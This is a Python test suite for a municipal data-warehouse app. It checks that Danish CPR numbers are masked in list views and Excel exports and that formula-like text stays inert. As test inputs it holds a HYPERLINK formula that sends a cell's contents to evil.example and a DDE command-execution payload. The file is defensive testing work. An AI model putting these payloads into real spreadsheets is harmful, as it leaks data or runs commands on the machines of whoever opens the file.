"""CPR masked whatever its type: a real DuckDB warehouse whose citizen table keeps CPR as
BIGINT (leading zeros lost), and a team whose name is an Excel formula."""

from __future__ import annotations

import io
import re

import duckdb
import pytest
from flask import Flask
from flask_caching import Cache
from openpyxl import load_workbook

from components.list_export import workbook_bytes
from components.services import Services
from queries.catalogue.loader import load_catalogue
from queries.catalogue.models import Grain
from queries.citizens import citizen_ids, cpr_masking_line
from queries.cpr import mask_cpr
from queries.demo import write_duckdb
from queries.engine import create_warehouse_engine
from queries.scope import Scope
from queries.warehouse import Warehouse
from queries.xlsx import workbook
from tests.conftest import CATALOGUE

KPI = "sagsbehandlingstid"
FORMULA_TEAM = '=HYPERLINK("http://evil.example/?x="&A8,"Klik")'


@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        ("770662-6463", "770662-XXXX"),
        ("7706626463", "770662-XXXX"),
        (" 770662 6463 ", "770662-XXXX"),
        (7706626463, "770662-XXXX"),
        (503991234, "050399-XXXX"),  # a BIGINT lost the leading zero of day 05
        (503991234.0, "050399-XXXX"),
        (None, None),
        ("12345", "XXXXXX-XXXX"),  # not a CPR: hidden entirely
        (12345, "XXXXXX-XXXX"),
        (True, "XXXXXX-XXXX"),
    ],
)
def test_mask_cpr_whatever_its_type(stored, shown):
    assert mask_cpr(stored) == shown


@pytest.fixture(scope="module")
def numeric_cpr_warehouse(frames, tmp_path_factory):
    """The small demo, with dim_borger.cpr as BIGINT and one team named like a formula."""
    path = tmp_path_factory.mktemp("bigint") / "warehouse.duckdb"
    write_duckdb(frames, path)
    with duckdb.connect(str(path)) as connection:
        connection.execute(
            "ALTER TABLE dim_borger ALTER cpr TYPE BIGINT "
            "USING CAST(replace(cpr, '-', '') AS BIGINT)"
        )
        first = connection.execute("SELECT min(borger_id) FROM dim_borger").fetchone()[0]
        connection.execute("UPDATE dim_borger SET cpr = 503991234 WHERE borger_id = ?", [first])
        team = connection.execute(
            "SELECT org_id FROM dim_org WHERE org_id LIKE 'BFF-%' ORDER BY org_id DESC LIMIT 1"
        ).fetchone()[0]
        connection.execute("UPDATE dim_org SET org_navn = ? WHERE org_id = ?", [FORMULA_TEAM, team])
        assert connection.execute("SELECT typeof(cpr) FROM dim_borger LIMIT 1").fetchone() == (
            "BIGINT",
        )
    engine = create_warehouse_engine(f"duckdb:///{path}")
    return Warehouse(engine, load_catalogue(CATALOGUE, engine=engine)), first


def _services(warehouse: Warehouse) -> Services:
    cache = Cache(Flask(__name__), config={"CACHE_TYPE": "SimpleCache"})
    return Services(warehouse, cache, viewer_scope=Scope.of("BFF"))


def test_numeric_cpr_is_masked_in_the_list(numeric_cpr_warehouse):
    warehouse, _ = numeric_cpr_warehouse
    period = warehouse.latest_period(KPI, Grain.year)
    page = _services(warehouse).list_page(KPI, "BFF", Grain.year, period, limit=200)
    shown = [row["citizen_cpr"] for row in page.rows]
    assert shown and all(re.fullmatch(r"\d{6}-XXXX", cpr) for cpr in shown)


def test_numeric_cpr_and_a_formula_name_in_the_excel_file(numeric_cpr_warehouse):
    warehouse, _ = numeric_cpr_warehouse
    kpi = warehouse.catalogue.kpi(KPI)
    period = warehouse.latest_period(KPI, Grain.year)
    page = _services(warehouse).export_list(KPI, "BFF", Grain.year, period)
    assert FORMULA_TEAM in {row["org_org_navn"] for row in page.rows}
    content = workbook_bytes(kpi, "BFF", "2026", "leder-bff", page, period)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    formula_cells = [cell for cell in cells if cell.value == FORMULA_TEAM]
    assert formula_cells and all(cell.data_type == "s" for cell in formula_cells)
    cpr_values = [
        c.value for c in cells if isinstance(c.value, str) and re.match(r"\d{6}-", c.value)
    ]
    assert cpr_values and all(re.fullmatch(r"\d{6}-XXXX", v) for v in cpr_values)
    assert not [c.value for c in cells if isinstance(c.value, int) and c.value > 10**8]


def test_an_access_request_finds_a_numeric_cpr_without_its_leading_zero(numeric_cpr_warehouse):
    warehouse, first = numeric_cpr_warehouse
    assert citizen_ids(warehouse, "050399-1234") == [str(first)]
    assert citizen_ids(warehouse, "0503991234") == [str(first)]
    with pytest.raises(ValueError, match="ikke et CPR-nummer"):
        citizen_ids(warehouse, "05039")


def test_validate_says_how_the_cpr_column_is_masked(numeric_cpr_warehouse, duckdb_warehouse):
    warehouse, _ = numeric_cpr_warehouse
    line = cpr_masking_line(warehouse.engine, warehouse.catalogue)
    assert line.startswith("CPR-kolonnen dim_borger.cpr (tal) vises som DDMMÅÅ-XXXX")
    text = cpr_masking_line(duckdb_warehouse.engine, duckdb_warehouse.catalogue)
    assert text == "CPR-kolonnen dim_borger.cpr (tekst) vises som DDMMÅÅ-XXXX."


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+45 12345678", "-3", "@SUM(A1)", "\tindrykket", "\rretur", '=cmd|" /C calc"!A0'],
)
def test_text_that_looks_like_a_formula_stays_text(value):
    content = workbook("Liste", [("Enhed", value)], ["Navn"], [[value]])
    sheet = load_workbook(io.BytesIO(content)).active
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value == value]
    assert len(found) == 2  # in the header block and in the table, unchanged
    assert all(cell.data_type != "f" for cell in found)


def test_the_header_block_says_what_the_sheet_is(numeric_cpr_warehouse):
    warehouse, _ = numeric_cpr_warehouse
    kpi = warehouse.catalogue.kpi(KPI)
    period = warehouse.latest_period(KPI, Grain.year)
    page = _services(warehouse).export_list(KPI, "BFF", Grain.year, period)
    content = workbook_bytes(kpi, "Børn og Familier", "2026", "Anne (aj1)", page, period)
    sheet = load_workbook(io.BytesIO(content)).active
    block = {sheet.cell(r, 1).value: sheet.cell(r, 2).value for r in range(2, 8)}
    assert sheet["A1"].value == "Fortroligt – indeholder personoplysninger"
    assert block["Nøgletal"] == kpi.title and block["Enhed"] == "Børn og Familier"
    assert block["Periode"] == "2026" and block["Udtrukket af"] == "Anne (aj1)"
    assert block["Udtrukket"]
    widths = [sheet.column_dimensions[c].width for c in "ABC"]
    assert all(10 <= width <= 60 for width in widths)
